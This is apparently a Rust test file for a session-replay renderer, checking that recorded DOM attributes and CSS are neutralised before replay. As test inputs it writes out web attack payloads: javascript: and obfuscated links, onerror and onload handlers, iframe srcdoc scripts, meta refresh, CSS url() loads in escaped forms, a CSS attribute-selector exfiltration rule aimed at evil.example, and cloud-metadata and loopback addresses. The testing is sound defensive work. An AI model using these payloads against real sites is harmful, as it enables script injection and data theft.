//! Hostile recordings, as tables: what was recorded, what is painted. `tests/browser/hostile.test.mjs` shows the same in a
//! real browser.

use revisit_wire::{
    AssetHash, NodeId, Op, TimedOp,
    event::{AttributeName, Namespace, Node, NodeKind, Quirks, Snapshot},
};

use super::{Around, Assets, NoAssets, PLACEHOLDER, Painted, attribute, css, forced, shown, text};
use crate::{Document, apply};

const BASE: &str = "https://site.example/a/page";
const ELEMENT: NodeId = NodeId(2);

/// Knows one picture and one font.
struct Gallery;

impl Assets for Gallery {
    fn location(&self, hash: &AssetHash) -> Option<String> {
        Some(format!("/assets/{:02x}", hash.0[0]))
    }

    fn by_url(&self, url: &str) -> Option<AssetHash> {
        match url {
            "https://site.example/a/known.png" => Some(AssetHash([0xaa; 32])),
            "https://site.example/font.woff2" => Some(AssetHash([0xbb; 32])),
            _ => None,
        }
    }
}

fn namespace(name: &str) -> Namespace {
    match name {
        "html" => Namespace::Html,
        "svg" => Namespace::Svg,
        "math" => Namespace::MathMl,
        other => Namespace::Other(other.into()),
    }
}

/// A document whose root is the element, named `svg:use` or `img`, with these attributes; a text stands in it.
fn document(element: &str, attributes: &[(&str, &str)], data: &str) -> Document {
    let (space, tag) = element.split_once('|').unwrap_or(("html", element));
    let attributes = attributes
        .iter()
        .map(|(key, value)| (name(key), (*value).into()))
        .collect();
    let nodes = vec![
        Node {
            depth: 0,
            kind: NodeKind::Document {
                quirks: Quirks::Standards,
                url: BASE.into(),
            },
        },
        Node {
            depth: 1,
            kind: NodeKind::Element {
                namespace: namespace(space),
                tag: tag.into(),
                attributes,
                blocked: None,
            },
        },
        Node {
            depth: 2,
            kind: NodeKind::Text(data.into()),
        },
    ];
    let mut document = Document::default();
    apply(
        &mut document,
        &TimedOp {
            at: 0,
            op: Op::Snapshot(Snapshot { nodes }),
        },
    );
    document
}

fn name(qualified: &str) -> AttributeName {
    let namespace = qualified
        .starts_with("xlink:")
        .then(|| "http://www.w3.org/1999/xlink".into());
    AttributeName {
        namespace,
        name: qualified.into(),
    }
}

fn painted(element: &str, key: &str, value: &str) -> Painted {
    let document = document(element, &[(key, value)], "");
    let around = Around {
        document: &document,
        id: ELEMENT,
        asset: None,
        assets: &Gallery,
    };
    attribute(
        document.element(ELEMENT).expect("it was made"),
        &name(key),
        value,
        &around,
    )
}

fn check_absent(element: &str, attributes: &[(&str, &str)]) {
    for (key, value) in attributes {
        assert_eq!(
            painted(element, key, value),
            Painted::Absent,
            "{element} {key}={value}"
        );
    }
}

fn check_emptied(element: &str, attributes: &[(&str, &str)]) {
    for (key, value) in attributes {
        assert_eq!(
            painted(element, key, value),
            Painted::Instead(String::new()),
            "{element} {key}={value}"
        );
    }
}

fn check_kept(element: &str, attributes: &[(&str, &str)]) {
    for (key, value) in attributes {
        assert_eq!(
            painted(element, key, value),
            Painted::AsRecorded,
            "{element} {key}={value}"
        );
    }
}

/// What the attribute that shows something is in the replay.
fn check_shown(
    element: &str,
    attributes: &[(&str, &str)],
    asset: Option<u8>,
    expected: Option<&str>,
) {
    let document = document(element, attributes, "");
    let asset = asset.map(|byte| AssetHash([byte; 32]));
    let around = Around {
        document: &document,
        id: ELEMENT,
        asset,
        assets: &Gallery,
    };
    let shown = shown(document.element(ELEMENT).expect("it was made"), &around);
    assert_eq!(
        shown.and_then(|(_, value)| value).as_deref(),
        expected,
        "{element}"
    );
}

fn check_css(recorded: &str, expected: &str) {
    assert_eq!(css(recorded, BASE, &Gallery), expected);
}

#[test]
fn what_does_no_harm_stays_as_recorded() {
    check_kept(
        "a",
        &[
            ("href", "https://other.example/"),
            ("href", "/b?c#d"),
            ("href", "mailto:a@b"),
            ("target", "_blank"),
        ],
    );
    check_kept(
        "div",
        &[
            ("class", "a b"),
            ("id", "x"),
            ("data-on", "1"),
            ("aria-label", "on"),
            ("@click", "go()"),
        ],
    );
    check_kept(
        "div",
        &[
            ("v-on:click", "go()"),
            (":class", "x"),
            ("style", "color: red"),
            ("title", "javascript:x"),
        ],
    );
    check_kept(
        "input",
        &[
            ("type", "password"),
            ("value", "•••"),
            ("placeholder", "url(x)"),
        ],
    );
    check_kept(
        "sl-icon",
        &[
            ("src", "https://site.example/icon.svg"),
            ("name", "x"),
            ("data", "y"),
        ],
    );
    check_kept(
        "svg|path",
        &[
            ("d", "M0 0"),
            ("transform", "translate(1 2)"),
            ("fill", "url(#gradient)"),
        ],
    );
    check_kept(
        "meta",
        &[
            ("name", "viewport"),
            ("content", "width=device-width"),
            ("charset", "utf-8"),
        ],
    );
}

#[test]
fn bad_input_43_script() {
    check_absent(
        "script",
        &[("src", "https://evil.example/x.js"), ("SRC", "x")],
    );
    assert_eq!(
        painted("script", "type", "text/javascript"),
        Painted::Reserved
    );
    assert_eq!(
        painted("script", "type", "speculationrules"),
        Painted::Reserved
    );
    for element in ["script", "SCRIPT", "x:script", "svg|script", "svg|x:script"] {
        let document = document(element, &[], "alert(1)");
        let forced = forced(document.element(ELEMENT).expect("it was made"));
        assert_eq!(
            forced,
            [("type", "application/x-revisit-inert".to_owned())],
            "{element}"
        );
    }
}

#[test]
fn bad_input_44_img_onerror() {
    check_emptied(
        "img",
        &[
            ("onerror", "alert(1)"),
            ("ONERROR", "alert(1)"),
            ("onload", "x"),
            ("x:onload", "x"),
        ],
    );
}

#[test]
fn bad_input_45_svg_onload() {
    check_emptied(
        "svg|svg",
        &[("onload", "alert(1)"), ("onbegin", "alert(1)")],
    );
    check_emptied(
        "sl-button",
        &[("onclick", "alert(1)"), ("onfocus", "alert(1)")],
    );
}

#[test]
fn bad_input_46_svg_script() {
    check_absent(
        "svg|script",
        &[
            ("href", "https://evil.example/x.js"),
            ("xlink:href", "data:text/javascript,x"),
        ],
    );
}

#[test]
fn bad_input_47_use_href_data() {
    check_absent(
        "svg|use",
        &[
            ("href", "data:image/svg+xml,<svg/>"),
            ("xlink:href", "https://evil.example/x.svg#a"),
        ],
    );
    check_kept("svg|use", &[("href", "#icon"), ("xlink:href", "#icon")]);
}

#[test]
fn bad_input_48_foreign_object() {
    check_emptied("svg|foreignObject", &[("onload", "alert(1)")]);
    check_absent("svg|foreignObject", &[("href", "https://evil.example/")]);
    check_absent(
        "svg|iframe",
        &[
            ("src", "https://evil.example/"),
            ("srcdoc", "<script>alert(1)</script>"),
        ],
    );
}

#[test]
fn bad_input_49_smil_sets_href() {
    for element in ["svg|set", "svg|animate", "set"] {
        check_absent(
            element,
            &[
                ("attributeName", "href"),
                ("attributeName", "xlink:HREF"),
                ("attributename", " onclick"),
            ],
        );
    }
    check_kept(
        "svg|animate",
        &[("attributeName", "opacity"), ("values", "0;1")],
    );
    assert_eq!(
        painted("svg|animate", "values", "url(https://evil.example/x);none"),
        Painted::Instead(r#"url("data:,");none"#.to_owned())
    );
}

#[test]
fn bad_input_50_javascript_links() {
    for url in [
        "javascript:alert(1)",
        "java\tscript:alert(1)",
        " \u{1}JaVaScRiPt:x",
        "java\nscript:x",
        "vbscript:x",
        "data:text/html,x",
        "blob:x",
    ] {
        check_absent("a", &[("href", url)]);
        check_absent("area", &[("href", url)]);
        check_absent("svg|a", &[("href", url), ("xlink:href", url)]);
        check_absent("math|mi", &[("href", url), ("xlink:href", url)]);
    }
}

#[test]
fn bad_input_51_iframe_srcdoc() {
    check_absent(
        "iframe",
        &[
            ("srcdoc", "<script>alert(1)</script>"),
            ("SRCDOC", "x"),
            ("sandbox", ""),
            ("csp", "x"),
        ],
    );
}

#[test]
fn bad_input_52_iframe_data_or_blob() {
    check_absent(
        "iframe",
        &[
            ("src", "data:text/html,x"),
            ("src", "blob:x"),
            ("src", "javascript:x"),
            ("src", "/same"),
        ],
    );
    check_absent("frame", &[("src", "https://evil.example/")]);
}

#[test]
fn bad_input_53_meta_refresh() {
    check_absent(
        "meta",
        &[
            ("http-equiv", "refresh"),
            ("HTTP-EQUIV", "Refresh"),
            ("http-equiv", "Content-Security-Policy"),
        ],
    );
}

#[test]
fn bad_input_54_base_href() {
    check_absent("base", &[("href", "https://evil.example/")]);
    let base = AttributeName {
        namespace: Some("http://www.w3.org/XML/1998/namespace".into()),
        name: "xml:base".into(),
    };
    let document = document("svg|svg", &[], "");
    let around = Around {
        document: &document,
        id: ELEMENT,
        asset: None,
        assets: &NoAssets,
    };
    let element = document.element(ELEMENT).expect("it was made");
    assert_eq!(
        attribute(element, &base, "https://evil.example/", &around),
        Painted::Absent
    );
}

#[test]
fn bad_input_55_object_embed() {
    check_absent(
        "object",
        &[
            ("data", "https://evil.example/"),
            ("classid", "x"),
            ("codebase", "x"),
            ("archive", "x"),
        ],
    );
    check_absent("embed", &[("src", "https://evil.example/")]);
    check_absent("applet", &[("code", "x"), ("object", "x")]);
    check_absent("portal", &[("src", "https://evil.example/")]);
}

#[test]
fn bad_input_56_namespace_confusion() {
    // The tree is built node by node, so that no markup is parsed; a prefix does not hide a name either.
    check_absent("x:iframe", &[("src", "https://evil.example/")]);
    check_absent(
        "math|annotation-xml",
        &[("src", "https://evil.example/"), ("href", "javascript:x")],
    );
    check_absent("urn:x|script", &[("src", "x")]);
    check_absent("x:meta", &[("http-equiv", "refresh")]);
    check_absent("svg|a", &[("x:href", "javascript:x")]);
}

#[test]
fn bad_input_57_template() {
    check_emptied("template", &[("onload", "x")]);
    check_kept("template", &[("shadowrootmode", "open")]);
}

#[test]
fn bad_input_58_customised_built_in() {
    // Painted after the element was made, it means nothing.
    check_kept("button", &[("is", "evil-button")]);
}

#[test]
fn bad_input_60_text_in_style_and_script() {
    let data = |element: &str, recorded: &str| {
        text(&document(element, &[], recorded), NodeId(3), &Gallery).to_string()
    };
    assert_eq!(
        data("style", "a{background:url(https://evil.example/x)}"),
        r#"a{background:url("data:,")}"#
    );
    assert_eq!(
        data("svg|style", "@import 'https://evil.example/x';"),
        r#"@import url("data:text/css,");"#
    );
    assert_eq!(
        data("p", "url(https://evil.example/x)"),
        "url(https://evil.example/x)"
    );
}

#[test]
fn bad_input_61_form_action() {
    check_absent("form", &[("action", "javascript:x"), ("autofocus", "")]);
    check_absent(
        "button",
        &[("formaction", "java\tscript:x"), ("autofocus", "")],
    );
    check_absent(
        "input",
        &[("formaction", "data:text/html,x"), ("AUTOFOCUS", "")],
    );
    check_kept("form", &[("action", "/search")]);
}

#[test]
fn bad_input_62_css_that_loads() {
    check_css(
        "a{background:url(https://evil.example/x.png)}",
        r#"a{background:url("data:,")}"#,
    );
    check_css(
        "a{background:URL( 'x.png' )}",
        r#"a{background:url("data:," )}"#,
    );
    check_css(
        r"a{background:u\72 l(x.png)}",
        r#"a{background:url("data:,")}"#,
    );
    check_css(
        r"a{background:\75\52\4c(x.png)}",
        r#"a{background:url("data:,")}"#,
    );
    check_css("a{b:url(known.png)}", r#"a{b:url("/assets/aa")}"#);
    check_css(
        "@font-face{src:url('/font.woff2') format('woff2'),local('x')}",
        r#"@font-face{src:url("/assets/bb") format('woff2'),local('x')}"#,
    );
    check_css(
        "@import url(x.css) screen;b{}",
        r#"@import url("data:text/css,") screen;b{}"#,
    );
    check_css(r"@\69mport 'x.css';", r#"@\69mport url("data:text/css,");"#);
    check_css(
        "a{b:image-set('x.png' 1x, url(y.png) 2x)}",
        r#"a{b:image-set("data:," 1x, url("data:,") 2x)}"#,
    );
    check_css(
        "a{b:-webkit-image-set('x' type('image/png') 1x)}",
        r#"a{b:-webkit-image-set("data:," type('image/png') 1x)}"#,
    );
    check_css("a{b:src('x.png')}", r#"a{b:src("data:,")}"#);
    check_css("a{--x:url(x.png)}", r#"a{--x:url("data:,")}"#);
    check_css("a{b:url(x.png", r#"a{b:url("data:,")"#);
    check_css("a{b:url('x.png", r#"a{b:url("data:,""#);
}

#[test]
fn selectors_look_for_attributes_beside_states() {
    let or = |state: &str| format!(":is(:{state},[data-revisit-{state}])");
    let check = |text: &str, expected: String| check_css(text, &expected);
    check(
        "a::before,b:hover{c:d}",
        format!("a::before,b{}{{c:d}}", or("hover")),
    );
    check("a:hover b{c:d}", format!("a{} b{{c:d}}", or("hover")));
    check(
        "@media (hover:hover){a:HOVER,b:not(:focus-within){c:d}}",
        format!(
            "@media (hover:hover){{a{},b:not({}){{c:d}}}}",
            or("hover"),
            or("focus-within")
        ),
    );
    check(
        ".menu{--x:hover;&:focus-visible{c:d}e:active{f:g}}",
        format!(
            ".menu{{--x:hover;&{}{{c:d}}e{}{{f:g}}}}",
            or("focus-visible"),
            or("active")
        ),
    );
    for same in [
        "a:hovering{b:c}",
        "a:-webkit-full-screen{b:c}",
        "a:active-view-transition{b:c}",
        "a{b:hover}",
        "a[b=':hover']{c:d}",
        "a::part(hover){b:c}",
        "a::-webkit-slider-thumb:hover{b:c}",
        "a::part(b c):active:focus{d:e}",
        "/* a:hover{} */b{c:d}",
    ] {
        check_css(same, same);
    }
    // Each state of a long selector is looked at, and the selector once.
    let many = "a:hover ".repeat(100_000);
    check_css(&many, &many);
}

#[test]
fn css_that_loads_nothing_stays_as_it_is() {
    for text in [
        "a{color:red}",
        "a{fill:url(#b)}",
        "a{b:url(\"data:image/png;base64,AA==\")}",
        "@namespace svg url(http://www.w3.org/2000/svg);",
        "@namespace url('http://www.w3.org/1999/xhtml');",
        "a::before{content:'url(x.png)'}",
        "/* url(x.png) */a{}",
        r".url\(x\){}",
        "a{b:url(x y)}",
        ".image{} #url{} .src{}",
        "a{width:10url}",
    ] {
        check_css(text, text);
    }
}

#[test]
fn css_after_what_looks_open_is_still_seen() {
    check_css(
        "a{b:url(x y)}c{d:url(z)}",
        r#"a{b:url(x y)}c{d:url("data:,")}"#,
    );
    check_css("a{b:'x\n}c{d:url(z)}", "a{b:'x\n}c{d:url(\"data:,\")}");
    check_css("/**/a{b:url(z)}", r#"/**/a{b:url("data:,")}"#);
    check_css(
        "@namespace x;a{b:url(z)}",
        r#"@namespace x;a{b:url("data:,")}"#,
    );
}

#[test]
fn bad_input_63_attribute_selector_exfiltration() {
    check_css(
        "input[value^='a']{background:url(//evil.example/?a)}",
        r#"input[value^='a']{background:url("data:,")}"#,
    );
}

#[test]
fn bad_input_64_attributes_that_load() {
    check_absent(
        "img",
        &[
            ("srcset", "x 1x"),
            ("attributionsrc", "x"),
            ("longdesc", "x"),
            ("lowsrc", "x"),
        ],
    );
    check_absent(
        "a",
        &[("ping", "https://evil.example/"), ("attributionsrc", "x")],
    );
    check_absent(
        "link",
        &[
            ("href", "https://evil.example/"),
            ("imagesrcset", "x"),
            ("blocking", "render"),
        ],
    );
    check_absent("source", &[("src", "x"), ("srcset", "x")]);
    check_absent("audio", &[("src", "x")]);
    check_absent("track", &[("src", "x")]);
    check_absent("html", &[("manifest", "x"), ("profile", "x")]);
    check_absent("body", &[("background", "https://evil.example/x.png")]);
    assert_eq!(
        painted("body", "background", "known.png"),
        Painted::Instead("/assets/aa".to_owned())
    );
    check_shown("video", &[("poster", "https://evil.example/x")], None, None);
    check_shown(
        "img",
        &[("src", "https://evil.example/x")],
        None,
        Some(PLACEHOLDER),
    );
    check_shown(
        "input",
        &[("type", "image"), ("src", "https://evil.example/x")],
        None,
        None,
    );
    check_shown(
        "svg|image",
        &[("xlink:href", "https://evil.example/x")],
        None,
        None,
    );
    check_shown(
        "svg|feImage",
        &[("href", "https://evil.example/x")],
        None,
        None,
    );
}

#[test]
fn bad_input_65_asset_urls_are_made_of_hashes_alone() {
    check_shown(
        "img",
        &[("src", "http://169.254.169.254/")],
        Some(0xcc),
        Some("/assets/cc"),
    );
    check_shown(
        "video",
        &[("poster", "http://[::1]/")],
        Some(0xcc),
        Some("/assets/cc"),
    );
    check_shown(
        "img",
        &[("src", "http://2130706433/")],
        None,
        Some(PLACEHOLDER),
    );
}

#[test]
fn a_canvas_is_a_picture_under_its_own_style() {
    let empty = |width, height| {
        format!(
            "url(\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='{width}' height='{height}'/%3E\")"
        )
    };
    let picture = format!(
        "content:url(\"/assets/cc\")!important;--revisit-empty:{};",
        empty("300", "150")
    );
    check_shown(
        "canvas",
        &[("style", "color:red")],
        Some(0xcc),
        Some(&format!("{picture}color:red")),
    );
    // What stands open in the recorded style, or loads, changes nothing about it.
    check_shown(
        "canvas",
        &[(
            "style",
            "content:url(https://evil.example/);font-family:\"open",
        )],
        Some(0xcc),
        Some(&format!(
            "{picture}content:url(\"data:,\");font-family:\"open"
        )),
    );
    let nothing = |width, height| format!("content:{}!important;", empty(width, height));
    check_shown("canvas", &[], None, Some(&nothing("300", "150")));
    let sizes = [("width", " 20 "), ("height", "'/%3E\")")];
    check_shown("canvas", &sizes, None, Some(&nothing("20", "150")));
}

#[test]
fn bad_input_66_inline_pictures_stay() {
    // A picture in an `<img>` runs nothing and loads nothing, SVG with external references included.
    check_shown(
        "img",
        &[("src", "data:image/svg+xml,<svg/>")],
        None,
        Some("data:image/svg+xml,<svg/>"),
    );
    check_shown(
        "img",
        &[("src", "data:text/html,x")],
        None,
        Some(PLACEHOLDER),
    );
    check_absent("object", &[("data", "data:image/svg+xml,<svg/>")]);
}

#[test]
fn an_image_whose_bytes_are_not_to_be_had_is_a_quiet_box() {
    check_shown("img", &[("srcset", "a.png 2x")], None, Some(PLACEHOLDER));
    check_shown("img", &[("alt", "none was named")], None, None);
    check_shown("img", &[("src", "")], None, None);
}

#[test]
fn noscript_is_hidden() {
    let document = document("noscript", &[("style", "display:block")], "");
    let element = document.element(ELEMENT).expect("it was made");
    assert_eq!(
        forced(element),
        [("style", "display:none!important".to_owned())]
    );
    assert_eq!(
        painted("noscript", "style", "display:block"),
        Painted::Reserved
    );
}
